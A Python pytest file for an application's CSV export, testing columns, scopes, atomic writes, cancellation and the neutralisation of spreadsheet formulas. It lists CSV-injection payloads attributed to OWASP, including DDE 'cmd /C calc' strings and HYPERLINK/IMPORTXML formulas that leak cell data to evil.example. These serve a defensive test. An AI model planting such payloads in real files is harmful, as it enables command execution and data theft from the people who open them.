"""Export: columns, formula neutralisation (OWASP payloads), atomic writes, scopes."""

import csv
import errno
import os

import numpy as np
import pandas as pd
import pytest

from guiapp.core.collection import Collection
from guiapp.core.commands import set_label
from guiapp.core.errors import Cancelled, ExportError
from guiapp.core.export import EXPORT_COLUMNS, export_csv, neutralise_cell, restore_cell
from guiapp.core.messages import make_frame

# Payloads from OWASP's CSV Injection page and its linked cheat sheets.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
    "-1+1",
    "@",
    "'=already quoted",
    "''+twice quoted",
]


def read_back(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def collection(texts, **columns):
    return Collection(make_frame({"text": texts, **columns}))


def test_columns_and_labels(tmp_path):
    c = collection(["a", "b", "c"], user_spam=[1, -1, -1], kind=["sms"] * 3)
    c.spam_prob[:] = [0.9, 0.2, np.nan]
    c.sentiment_prob[1] = [0.1, 0.2, 0.7]
    c.model_versions = {"spam": "s1", "sentiment": "t1"}
    set_label(c, "sentiment", [0], "negative").apply_to(c)
    out = tmp_path / "x.csv"
    assert export_csv(c, out) == 3
    rows = read_back(out)
    assert tuple(rows[0].keys()) == EXPORT_COLUMNS
    assert [r["spam"] for r in rows] == ["spam", "ham", ""]
    assert [r["spam_by"] for r in rows] == ["user", "model", ""]
    assert [r["spam_score"] for r in rows] == ["0.9000", "0.2000", ""]
    assert [r["sentiment"] for r in rows] == ["negative", "positive", ""]
    assert [r["sentiment_by"] for r in rows] == ["user", "model", ""]
    assert rows[1]["sentiment_score"] == "0.7000"
    assert [r["corrected"] for r in rows] == ["true", "false", "false"]
    assert rows[0]["model_version"] == "sentiment=t1;spam=s1"


def test_scopes_and_selection(tmp_path):
    c = collection(["a", "b", "c", "d"], user_spam=[-1, 0, -1, 1])
    out = tmp_path / "x.csv"
    assert export_csv(c, out, scope="labelled") == 2
    assert [r["text"] for r in read_back(out)] == ["b", "d"]
    assert export_csv(c, out, rows=np.array([3, 0])) == 2
    assert [r["text"] for r in read_back(out)] == ["d", "a"]
    with pytest.raises(ValueError):
        export_csv(c, out, scope="everything")


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_formula_payloads_are_neutralised_and_restorable(tmp_path, payload):
    c = collection([payload], subject=[payload], sender=[payload])
    out = tmp_path / "x.csv"
    export_csv(c, out)
    row = read_back(out)[0]
    for column in ("text", "subject", "sender"):
        cell = row[column]
        assert cell[0] not in "=+-@\t\r", cell
        assert restore_cell(cell) == payload
    assert neutralise_cell(payload) == row["text"]


def test_neutralisation_can_be_turned_off(tmp_path):
    c = collection(["=1+2"])
    out = tmp_path / "x.csv"
    export_csv(c, out, neutralise=False)
    assert read_back(out)[0]["text"] == "=1+2"


def test_text_with_quotes_commas_newlines_and_unicode(tmp_path):
    texts = [
        'a "quoted", text\nwith\r\nbreaks',
        "日本語 😀 Ελληνικά",
        "",
        " leading space",
        "tab\tinside",
    ]
    c = collection(texts)
    out = tmp_path / "x.csv"
    export_csv(c, out)
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert frame["text"].tolist() == texts


def test_failed_export_leaves_no_partial_file_and_keeps_old_one(tmp_path, monkeypatch):
    out = tmp_path / "x.csv"
    out.write_text("an earlier export\n")
    c = collection([f"message {i}" for i in range(250_000)])
    real_fsync = os.fsync

    def full_disk(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full_disk)
    with pytest.raises(ExportError, match="disk is full") as info:
        export_csv(c, out)
    assert str(out) in str(info.value)
    monkeypatch.setattr(os, "fsync", real_fsync)
    assert out.read_text() == "an earlier export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.csv"]


def test_cancelled_export_leaves_nothing(tmp_path):
    c = collection([f"message {i}" for i in range(250_000)])
    out = tmp_path / "x.csv"
    calls = []

    def stop():
        calls.append(1)
        return len(calls) > 1

    with pytest.raises(Cancelled):
        export_csv(c, out, stop_requested=stop)
    assert list(tmp_path.iterdir()) == []


def test_missing_folder_is_a_clear_error(tmp_path):
    with pytest.raises(ExportError, match="folder does not exist"):
        export_csv(collection(["a"]), tmp_path / "nope" / "x.csv")
